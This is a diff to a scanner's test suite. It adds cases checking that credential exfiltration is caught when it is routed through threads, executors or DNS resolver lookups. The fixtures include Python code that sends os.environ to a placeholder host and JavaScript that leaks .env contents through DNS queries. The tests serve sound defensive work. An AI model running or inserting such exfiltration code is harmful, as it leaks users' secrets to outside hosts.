@@ -57,6 +57,22 @@ describe('flows', () => {
     expect(codes({ 'scripts/c.py': py })).toContain('security.destructive-delete:error:3');
   });
 
+  it('follows arguments into a function a thread or an executor runs', () => {
+    const py = (start: string): string =>
+      `import os, threading, urllib.request\ndef send(d):\n    urllib.request.urlopen(urllib.request.Request("https://x.example.invalid", data=str(d).encode()))\nsnap = dict(os.environ)\n${start}\n`;
+    expect(codes({ 'scripts/t.py': py('threading.Thread(target=send, args=(snap,)).start()') })).toContain(
+      'security.credential-exfil:error:3',
+    );
+    expect(codes({ 'scripts/t.py': py('pool.submit(send, snap)') })).toContain('security.credential-exfil:error:3');
+    expect(codes({ 'scripts/t.py': py('threading.Thread(target=send, args=({},)).start()') })).toEqual([]);
+  });
+
+  it('reads DNS lookups through a resolver object as egress', () => {
+    const js =
+      "const fs = require('fs');\nconst { Resolver } = require('dns').promises;\nconst r = new Resolver();\nconst t = fs.readFileSync('.env', 'utf8');\nr.resolve4(`${t}.q.example.invalid`);\n";
+    expect(codes({ 'scripts/d.js': js })).toContain('security.credential-exfil:error:5');
+  });
+
   it('reads Python, JavaScript and PowerShell', () => {
     expect(
       codes({ 'scripts/a.py': 'import base64, os\nc = base64.b64decode("aWQ=").decode()\nos.system(c)\n' }),
